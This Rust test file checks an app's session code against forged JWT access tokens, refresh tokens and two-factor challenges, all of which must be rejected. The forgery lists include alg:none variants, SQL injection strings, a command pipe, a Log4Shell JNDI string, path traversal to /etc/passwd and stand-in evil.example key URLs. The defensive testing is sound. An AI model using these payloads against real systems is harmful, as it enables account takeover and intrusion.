//! Forged tokens: what attackers have made of access tokens, refresh tokens and challenges, and what they might. None opens anything.

use super::{
    Sessions,
    jwt::{ACCESS_SECONDS, Access, Tokens},
    session::{Granted, SignInError},
};
use crate::testing::TestApp;
use actix_web::{http::StatusCode, test as http_test};
use base64::{
    Engine,
    engine::general_purpose::{STANDARD, URL_SAFE, URL_SAFE_NO_PAD as B64},
};
use cartwheel_domain::{ids::StoreId, time::SECOND};
use cartwheel_entity::{member, session};
use cartwheel_macros::db_test;
use ring::hmac;
use serde_json::{Value, json};
use std::collections::BTreeSet;

const OWNER: &str = "a@owner.example";
const PASSWORD: &str = "correct horse battery";
/// The one header.
const HEADER: &str = r#"{"typ":"JWT","alg":"HS256"}"#;

fn sessions(app: &TestApp) -> Sessions {
    Sessions::new(app.db().clone(), app.env().clone(), app.master_key()).expect("sessions")
}

/// The key of access tokens, for forgeries that nobody without it could make: what is said under it is judged all the same.
fn own_key(app: &TestApp) -> Vec<u8> {
    let key = app.master_key().derive("access tokens", StoreId(uuid::Uuid::nil()));
    hmac::sign(&key, b"v1").as_ref().to_vec()
}

fn signed(header: &str, claims: &str, key: &[u8]) -> String {
    let said = format!("{}.{}", B64.encode(header), B64.encode(claims));
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), said.as_bytes());
    format!("{said}.{}", B64.encode(tag.as_ref()))
}

fn sized(header: &str, claims: &str, key: &[u8], algorithm: hmac::Algorithm) -> String {
    let said = format!("{}.{}", B64.encode(header), B64.encode(claims));
    let tag = hmac::sign(&hmac::Key::new(algorithm, key), said.as_bytes());
    format!("{said}.{}", B64.encode(tag.as_ref()))
}

/// Everything but the plain case of `text`, byte by byte: each changed, each left out, and the text cut there.
fn mangled(text: &str) -> Vec<String> {
    let letters = "ABab01-_.=+/ \u{e9}";
    let mut all = BTreeSet::new();
    for (at, now) in text.char_indices() {
        let (before, after) = (&text[..at], &text[at + now.len_utf8()..]);
        let swapped =
            if now.is_ascii_uppercase() { now.to_ascii_lowercase() } else { now.to_ascii_uppercase() };
        let other = letters.chars().nth(at % letters.chars().count()).unwrap_or('A');
        all.extend([format!("{before}{after}"), before.to_owned(), format!("{before}{swapped}{after}")]);
        all.extend([format!("{before}{other}{after}"), format!("{before}{now}{now}{after}")]);
    }
    // Every other letter in the last place: base64 has bits there that decode to nothing.
    let (head, _) = text.split_at(text.len() - 1);
    all.extend(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
            .chars()
            .map(|c| format!("{head}{c}")),
    );
    for odd in ["=", "==", "\n", " ", "\0", ".", "A", "\u{200b}"] {
        all.extend([format!("{text}{odd}"), format!("{odd}{text}")]);
    }
    all.remove(text);
    all.into_iter().collect()
}

/// Headers nobody of ours writes.
fn headers() -> Vec<String> {
    let mut all: Vec<Value> = Vec::new();
    for alg in [
        "none",
        "None",
        "NONE",
        "nOnE",
        "",
        " HS256",
        "hs256",
        "HS256 ",
        "HS384",
        "HS512",
        "RS256",
        "RS384",
        "RS512",
        "PS256",
        "PS384",
        "PS512",
        "ES256",
        "ES256K",
        "ES384",
        "ES512",
        "EdDSA",
        "dir",
        "A128KW",
        "RSA-OAEP",
        "PBES2-HS256+A128KW",
        "HS256\u{0}",
        "ＨＳ256",
        "SHA256",
        "null",
    ] {
        all.push(json!({ "typ": "JWT", "alg": alg }));
    }
    for alg in [json!(null), json!(0), json!(true), json!(["HS256"]), json!({ "HS256": true })] {
        all.push(json!({ "typ": "JWT", "alg": alg }));
    }
    for typ in ["jwt", "at+jwt", "refresh", "JWE", "JOSE", "", "application/jwt", "secevent+jwt"] {
        all.push(json!({ "typ": typ, "alg": "HS256" }));
    }
    all.push(json!({ "alg": "HS256" }));
    all.push(json!({ "typ": null, "alg": "HS256" }));
    for kid in [
        "",
        "0",
        "../../../../dev/null",
        "/dev/null",
        "/proc/sys/kernel/randomize_va_space",
        "x' UNION SELECT 'key' --",
        "'; DROP TABLE session; --",
        "https://evil.example/key",
        "file:///etc/passwd",
        "|/usr/bin/id",
        "${jndi:ldap://evil.example}",
        "\u{0}",
        "a\r\nb",
        "cartwheel",
    ] {
        all.push(json!({ "typ": "JWT", "alg": "HS256", "kid": kid }));
    }
    let jwk = json!({ "kty": "oct", "k": "AAAA", "alg": "HS256" });
    for (name, value) in [
        ("jwk", jwk.clone()),
        ("jwk", json!({ "kty": "RSA", "n": "AQAB", "e": "AQAB" })),
        ("jku", json!("https://evil.example/jwks.json")),
        ("x5u", json!("https://evil.example/cert.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("AAAA")),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["b64"])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("cty", json!("JWT")),
        ("enc", json!("A128GCM")),
        ("p2c", json!(2_000_000_000)),
    ] {
        all.push(json!({ "typ": "JWT", "alg": "HS256", name: value }));
    }
    let mut texts: Vec<String> = all.iter().map(Value::to_string).collect();
    texts.extend(
        [
            r#"{"alg":"none","typ":"JWT","alg":"HS256"}"#,
            r#"{"typ":"JWT","alg":"HS256","alg":"none"}"#,
            r#"{"alg":"HS256","typ":"JWT"}"#,
            r#" {"typ":"JWT","alg":"HS256"}"#,
            "{\"typ\":\"JWT\",\"alg\":\"HS256\"}\n",
            "\u{feff}{\"typ\":\"JWT\",\"alg\":\"HS256\"}",
            r#"{"typ":"JWT","alg":"HS\u0032\u0035\u0036"}"#,
            "[]",
            "null",
            "\"HS256\"",
            "{",
            "",
        ]
        .map(str::to_owned),
    );
    texts
}

/// Claims nobody of ours makes, most of them of the live session.
fn claims(access: Access, now: i64) -> Vec<String> {
    let (sub, sid) = (access.member.to_string(), access.session.to_string());
    let sound = json!({ "sub": sub, "sid": sid, "aud": "cartwheel-console", "iat": now, "exp": now + ACCESS_SECONDS });
    let mut all = Vec::new();
    for name in ["sub", "sid", "aud", "iat", "exp"] {
        let mut less = sound.clone();
        less.as_object_mut().expect("claims").remove(name);
        all.push(less);
        for odd in [
            json!(null),
            json!(true),
            json!([]),
            json!({}),
            json!(""),
            json!(" "),
            json!(-1),
            json!(0),
            json!(1.5),
            json!(1e300),
            json!(i64::MAX),
            json!(i64::MIN),
            json!(u64::MAX),
            json!("9999999999"),
            json!([now + ACCESS_SECONDS]),
            json!((now + ACCESS_SECONDS).to_string()),
            json!(((now + ACCESS_SECONDS) as f64) + 0.5),
        ] {
            let mut changed = sound.clone();
            changed[name] = odd;
            all.push(changed);
        }
    }
    for (iat, exp) in [
        (now - ACCESS_SECONDS, now),
        (now - ACCESS_SECONDS - 1, now - 1),
        (now + 61, now + 61 + ACCESS_SECONDS),
        (now + 86_400, now + 86_400 + ACCESS_SECONDS),
        (now, now + ACCESS_SECONDS + 1),
        (now, now + ACCESS_SECONDS * 1_000),
        (now, i64::MAX),
        (-1, i64::MAX),
        (i64::MIN, i64::MAX),
        (i64::MIN, i64::MIN + ACCESS_SECONDS),
        (i64::MAX - ACCESS_SECONDS, i64::MAX),
        (now * 1_000, now * 1_000 + ACCESS_SECONDS),
        (0, ACCESS_SECONDS),
    ] {
        let mut changed = sound.clone();
        changed["iat"] = json!(iat);
        changed["exp"] = json!(exp);
        all.push(changed);
    }
    for aud in [
        json!("cartwheel"),
        json!("Cartwheel-Console"),
        json!("cartwheel-console "),
        json!("cartwheel-console,other"),
        json!(["other"]),
        json!("*"),
        json!("cartwheel-consol\u{435}"),
    ] {
        let mut changed = sound.clone();
        changed["aud"] = aud;
        all.push(changed);
    }
    // The kinds of ids changed about, the bare id, another's.
    for (name, value) in [
        ("sub", sid.clone()),
        ("sid", sub.clone()),
        ("sub", access.member.uuid().to_string()),
        ("sid", access.session.uuid().to_string()),
        ("sub", "mbr_' OR 1=1 --".into()),
        ("sid", "%".into()),
    ] {
        let mut changed = sound.clone();
        changed[name] = json!(value);
        all.push(changed);
    }
    let mut texts: Vec<String> = all.iter().map(Value::to_string).collect();
    let text = sound.to_string();
    texts.extend([
        text.replacen('{', r#"{"exp":99999999999,"#, 1),
        text.replacen('{', &format!(r#"{{"sub":"{sub}","#), 1),
        text.replace("\"exp\"", "\"EXP\""),
        format!("[{text}]"),
        format!("{text}{text}"),
        format!("{text} x"),
        "null".into(),
        "{}".into(),
        String::new(),
    ]);
    texts
}

/// Tokens that are no three parts, or not of the right letters.
fn shapes(good: &str, claims: &str, key: &[u8]) -> Vec<String> {
    let parts: Vec<&str> = good.split('.').collect();
    let (h, c, s) = (parts[0], parts[1], parts[2]);
    let tag = B64.decode(s).expect("base64");
    let nested = signed(HEADER, &json!({ "jwt": good }).to_string(), key);
    let mut all = vec![
        String::new(),
        ".".into(),
        "..".into(),
        "...".into(),
        format!("{h}.{c}"),
        format!("{h}.{c}."),
        format!("{h}..{s}"),
        format!(".{c}.{s}"),
        format!("{h}.{c}.{s}.{s}"),
        format!("{h}.{c}.{s}.{h}.{c}"),
        format!("{good}.{good}"),
        format!("{good},{good}"),
        format!("{good} {good}"),
        format!("{h}.{c}.{s}{s}"),
        format!("{c}.{h}.{s}"),
        format!("{h}.{c}.{}", STANDARD.encode(&tag)),
        format!("{h}.{c}.{}", URL_SAFE.encode(&tag)),
        format!("{h}.{c}.{}", hex::encode(&tag)),
        format!("{h}.{c}.{}", B64.encode(hex::encode(&tag))),
        format!("{h}.{c}.{}", B64.encode([0; 32])),
        format!("{h}.{c}.{}", B64.encode([0; 0])),
        format!("{h}.{c}.{}", B64.encode(&tag[..16])),
        format!("{h}.{c}.{}", B64.encode(&tag[..31])),
        format!("{h}.{c}.{}", B64.encode([&tag[..], &[0]].concat())),
        format!("{h}.{}.{s}", URL_SAFE.encode(claims)),
        format!("{h}=.{c}.{s}"),
        json!({ "protected": h, "payload": c, "signature": s }).to_string(),
        json!({ "payload": c, "signatures": [{ "protected": h, "signature": s }, { "protected": h, "signature": s }] }).to_string(),
        nested,
        signed(HEADER, good, key),
        signed(HEADER, &format!("\"{good}\""), key),
        B64.encode(good),
        good.to_uppercase(),
        good.chars().rev().collect(),
        format!("Bearer {good}"),
        good.replace('.', "\u{ff0e}"),
        good.replace('.', "%2e"),
        "a".repeat(100_000),
        format!("{h}.{}.{s}", "A".repeat(100_000)),
        "\u{1f600}".repeat(50),
        "undefined".into(),
        "null".into(),
        "admin".into(),
    ];
    // A bit of every byte of the signature.
    for n in 0..tag.len() {
        let mut flipped = tag.clone();
        flipped[n] ^= 1 << (n % 8);
        all.push(format!("{h}.{c}.{}", B64.encode(flipped)));
    }
    all
}

/// Keys that are not the one, and claims that are.
fn keys(app: &TestApp, key: &[u8]) -> Vec<Vec<u8>> {
    let master = app.master_key();
    let nil = StoreId(uuid::Uuid::nil());
    let derived = |purpose: &str| hmac::sign(&master.derive(purpose, nil), b"v1").as_ref().to_vec();
    let mut keys: Vec<Vec<u8>> = vec![
        vec![],
        vec![0],
        vec![0; 32],
        vec![0; 64],
        b"secret".to_vec(),
        b"null".to_vec(),
        B64.encode(key).into_bytes(),
    ];
    keys.extend(["access token", "refresh tokens", "mail preview", "suppression", ""].map(derived));
    keys.push(hmac::sign(&master.derive("access tokens", app.env().id()), b"v1").as_ref().to_vec());
    keys.push(hmac::sign(&master.derive("access tokens", nil), b"v2").as_ref().to_vec());
    keys.push(hmac::sign(&master.derive_global("access tokens"), b"v1").as_ref().to_vec());
    keys.push(key[..31].to_vec());
    keys.push([key, &[1]].concat());
    keys.push(key.iter().rev().copied().collect());
    keys.push(hex::encode(key).into_bytes());
    keys
}

/// Two sessions: one of theirs who attacks, one of whom they want to be.
async fn signed_in(app: &TestApp, sessions: &Sessions) -> (Granted, Access) {
    app.store("a").await;
    let granted = sessions.sign_in(OWNER, PASSWORD, None, "test").await.expect("in");
    let (access, _) = sessions.authenticate(&granted.access_token).await.expect("asked").expect("alive");
    (granted, access)
}

/// All forgeries of an access token of a live session.
fn forgeries(app: &TestApp, granted: &Granted, access: Access) -> Vec<String> {
    let (key, now, good) = (own_key(app), app.env().now() / SECOND, granted.access_token.as_str());
    assert_eq!(Tokens::new(&key).read(good, app.env().now()), Some(access), "the key is the real one");
    let sound = String::from_utf8(B64.decode(good.split('.').nth(1).expect("claims")).expect("base64"))
        .expect("text");
    let mut all = mangled(good);
    for header in headers() {
        all.push(signed(&header, &sound, &key));
        all.push(format!("{}.{}.", B64.encode(&header), B64.encode(&sound)));
        all.push(sized(&header, &sound, &key, hmac::HMAC_SHA384));
        all.push(sized(&header, &sound, &key, hmac::HMAC_SHA512));
    }
    all.extend(claims(access, now).iter().map(|claims| signed(HEADER, claims, &key)));
    all.extend(keys(app, &key).iter().map(|other| signed(HEADER, &sound, other)));
    all.extend(shapes(good, &sound, &key));
    all.extend([granted.refresh_token.clone(), granted.device.clone()]);
    // A session of nobody, and somebody's member with another's session.
    let tokens = Tokens::new(&key);
    for stray in [
        Access { member: app.env().id(), session: access.session },
        Access { member: access.member, session: app.env().id() },
        Access { member: app.env().id(), session: app.env().id() },
    ] {
        all.push(tokens.issue(stray, app.env().now()).expect("issued"));
    }
    let unique: BTreeSet<String> = all.into_iter().filter(|token| token != good).collect();
    unique.into_iter().collect()
}

#[db_test]
async fn no_forged_access_token_is_taken(app: TestApp) {
    let sessions = sessions(&app);
    let (granted, access) = signed_in(&app, &sessions).await;
    let all = forgeries(&app, &granted, access);
    for token in &all {
        assert!(sessions.authenticate(token).await.expect("no fault").is_none(), "{token}");
    }
    println!("forged access tokens: {}, 0 taken", all.len());
    assert!(all.len() >= 1_500, "{}", all.len());
    assert!(
        sessions.authenticate(&granted.access_token).await.expect("asked").is_some(),
        "and the real one is"
    );
}

/// The same at the door: none is answered with data, none is our fault, and none is repeated in the answer.
#[db_test]
async fn none_is_taken_over_http(app: TestApp) {
    let sessions = sessions(&app);
    let (granted, access) = signed_in(&app, &sessions).await;
    let whole = crate::testing::door::whole(&app).await;
    let service = http_test::init_service(actix_web::App::new().configure(whole.routes())).await;
    let ask = async |token: &str| {
        let value =
            actix_web::http::header::HeaderValue::from_bytes(format!("Bearer {token}").as_bytes()).ok()?;
        let request = http_test::TestRequest::post().uri("/graphql").insert_header(("authorization", value));
        let request = request.set_json(json!({ "query": "{ viewer { member { email } } }" })).to_request();
        let response = http_test::call_service(&service, request).await;
        let status = response.status();
        Some((status, http_test::read_body(response).await))
    };
    let (mut asked, mut odd) = (0, 0);
    // White space around a token is none of it.
    let forged = forgeries(&app, &granted, access).into_iter().filter(|t| t.trim() != granted.access_token);
    for token in forged {
        let Some((status, body)) = ask(&token).await else { continue };
        let body = String::from_utf8_lossy(&body);
        assert!(!body.contains(OWNER), "{token}");
        asked += 1;
        // A header that is no text speaks for nobody: such a caller is a stranger.
        if status != StatusCode::UNAUTHORIZED {
            assert!(body.contains("sign in"), "{status} {token} {body}");
            odd += 1;
        }
    }
    println!("forged access tokens over HTTP: {asked}, {odd} as a stranger");
    assert!(asked >= 1_400 && odd <= 40, "{asked} {odd}");
    let (status, body) = ask(&granted.access_token).await.expect("a header");
    assert!(status == StatusCode::OK && String::from_utf8_lossy(&body).contains(OWNER), "the real one");
    whole.close().await;
    app.allow_leftovers();
}

/// A forged refresh token renews nothing and, unlike one that was used, ends nothing either: else a stranger could sign anybody out.
#[db_test]
async fn no_forged_refresh_token_is_taken_or_ends_anything(app: TestApp) {
    let sessions = sessions(&app);
    let (granted, access) = signed_in(&app, &sessions).await;
    let good = granted.refresh_token.as_str();
    let bytes = B64.decode(&good[4..]).expect("base64");
    let key = own_key(&app);
    let family = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &key), b"refresh tokens");
    let sealed = |said: &[u8], key: &[u8], length: usize| {
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), said);
        format!("cwr_{}", B64.encode([said, &tag.as_ref()[..length]].concat()))
    };
    let mut all = mangled(good);
    for n in 0..bytes.len() {
        let mut flipped = bytes.clone();
        flipped[n] ^= 1 << (n % 8);
        all.push(format!("cwr_{}", B64.encode(flipped)));
    }
    all.extend(keys(&app, &key).iter().map(|other| sealed(&bytes[..48], other, 16)));
    all.extend((0..=32).filter(|n| *n != 16).map(|n| sealed(&bytes[..48], family.as_ref(), n)));
    all.extend((0..48).map(|n| sealed(&bytes[..n], family.as_ref(), 16)));
    // Rightly sealed, for sessions that are none.
    all.push(sealed(&[0; 48], family.as_ref(), 16));
    all.push(sealed(&[app.env().uuid().as_bytes().as_slice(), &[7; 32]].concat(), family.as_ref(), 16));
    all.extend([
        granted.access_token.clone(),
        granted.device.clone(),
        good.replace("cwr_", "cwc_"),
        good[4..].to_owned(),
    ]);
    all.extend([good.replace("cwr_", "CWR_"), format!("cwr_{good}"), "cwr_".into(), "x".repeat(1_000_000)]);
    let unique: BTreeSet<String> = all.into_iter().filter(|token| token != good).collect();
    for token in &unique {
        assert!(matches!(sessions.refresh(token).await, Err(SignInError::Over)), "{token}");
        sessions.sign_out(token).await.expect("no fault");
    }
    println!("forged refresh tokens: {}, 0 taken", unique.len());
    assert!(unique.len() >= 400, "{}", unique.len());
    let alive = sessions.authenticate(&granted.access_token).await.expect("asked");
    assert_eq!(alive.map(|(access, _)| access), Some(access), "the session has not ended");
    let mut tx = app.db().read().await.expect("a transaction");
    let system = tx.system().await.expect("all");
    let rows = system.find::<session::Entity>().all(system.on()).await.expect("sessions");
    assert!(rows.iter().all(|row| row.ended_at.is_none()));
    drop(tx);
    assert!(sessions.refresh(good).await.is_ok(), "and the real one is good");
}

/// A challenge stands for the right password: forged, it would leave six digits between a stranger and an account.
#[db_test]
async fn no_forged_challenge_is_taken(app: TestApp) {
    let sessions = sessions(&app);
    let (granted, access) = signed_in(&app, &sessions).await;
    let setup = sessions.start_second_factor(access, PASSWORD).await.expect("started");
    let secret = totp_rs::Secret::try_from_base32(&setup.secret).expect("base32");
    let phone = totp_rs::Builder::new().with_secret(secret).build().expect("an app");
    let shown = || phone.generate(u64::try_from(app.env().now() / 1000).expect("after 1970")).to_string();
    sessions.confirm_second_factor(access, &shown()).await.expect("confirmed");
    app.clock().advance(60 * SECOND);
    let Err(SignInError::SecondFactor(good)) = sessions.sign_in(OWNER, PASSWORD, None, "test").await else {
        panic!("a challenge")
    };
    let bytes = B64.decode(&good[4..]).expect("base64");
    let mut tx = app.db().read().await.expect("a transaction");
    let system = tx.system().await.expect("all");
    let row = system.find::<member::Entity>().one(system.on()).await.expect("asked").expect("the owner");
    drop(tx);
    let sealed = |said: &[u8], purpose: &str, hash: &str, length: usize| {
        let tag = hmac::sign(&app.master_key().derive_global(purpose), &[said, hash.as_bytes()].concat());
        format!("cwc_{}", B64.encode([said, &tag.as_ref()[..length]].concat()))
    };
    let own = "sign-in challenge";
    assert_eq!(sealed(&bytes[..24], own, &row.password_hash, 16), good, "the key is the real one");
    let mut all = mangled(&good);
    for n in 0..bytes.len() {
        let mut flipped = bytes.clone();
        flipped[n] ^= 1 << (n % 8);
        all.push(format!("cwc_{}", B64.encode(flipped)));
    }
    for purpose in ["", "recovery codes", "known device", "password of a known device", "sign-in challenges"]
    {
        all.push(sealed(&bytes[..24], purpose, &row.password_hash, 16));
    }
    for hash in ["", "$argon2id$v=19$m=19456,t=2,p=1$", PASSWORD] {
        all.push(sealed(&bytes[..24], own, hash, 16));
    }
    all.extend((0..=32).filter(|n| *n != 16).map(|n| sealed(&bytes[..24], own, &row.password_hash, n)));
    all.extend((0..24).map(|n| sealed(&bytes[..n], own, &row.password_hash, 16)));
    for ends in [0, -1, i64::MIN, app.env().now(), app.env().now() - 1] {
        all.push(sealed(&[&bytes[..16], &ends.to_be_bytes()[..]].concat(), own, &row.password_hash, 16));
    }
    all.push(sealed(&[app.env().uuid().as_bytes(), &bytes[16..24]].concat(), own, &row.password_hash, 16));
    all.extend([
        granted.access_token,
        granted.refresh_token,
        granted.device,
        good.replace("cwc_", "cwr_"),
        good[4..].to_owned(),
    ]);
    all.extend([good.replace("cwc_", "CWC_"), format!("cwc_{good}"), "cwc_".into(), "x".repeat(1_000_000)]);
    let unique: BTreeSet<String> = all.into_iter().filter(|token| *token != good).collect();
    for token in &unique {
        let answer = sessions.second_factor(token, &shown(), None, "test").await;
        assert!(matches!(answer, Err(SignInError::NoChallenge)), "{token}");
    }
    println!("forged challenges: {}, 0 taken", unique.len());
    assert!(unique.len() >= 400, "{}", unique.len());
    assert!(
        sessions.second_factor(&good, &shown(), None, "test").await.is_ok(),
        "and the real one is good, with the code"
    );
}
